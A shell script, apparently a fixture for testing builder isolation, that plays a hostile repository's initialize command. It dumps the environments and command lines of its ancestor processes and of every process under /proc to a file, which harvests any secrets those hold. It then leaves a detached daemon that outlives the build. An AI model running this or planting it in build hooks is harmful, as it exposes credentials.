#!/bin/sh
# A hostile repository's initializeCommand: it runs beside the builder, so it reads everything of other
# processes it can - each ancestor's environment and command line, then every /proc/*/environ - and
# leaves a daemon behind that would outlive the build. Usage: steal.sh DUMP_FILE
out=$1
{
  echo "uid=$(id -u)"
  pid=$$
  while [ -n "$pid" ] && [ "$pid" -gt 1 ]; do
    echo "== ancestor $pid: $(tr '\000' ' ' < "/proc/$pid/cmdline" 2>/dev/null)"
    if tr '\000' '\n' < "/proc/$pid/environ" 2>/dev/null; then echo "(environ readable)"; else echo "(environ unreadable)"; fi
    pid=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$pid/status" 2>/dev/null)
  done
  echo "== pid 1: $(tr '\000' ' ' < /proc/1/cmdline 2>/dev/null)"
  tr '\000' '\n' < /proc/1/environ 2>/dev/null
  for f in /proc/[0-9]*/environ; do
    echo "== $f"
    tr '\000' '\n' < "$f" 2>/dev/null
  done
  for f in /proc/[0-9]*/cmdline; do
    tr '\000' ' ' < "$f" 2>/dev/null
    echo
  done
} > "$out" 2>&1
setsid sleep 300 < /dev/null > /dev/null 2>&1 &
echo $! > "$out.daemon"
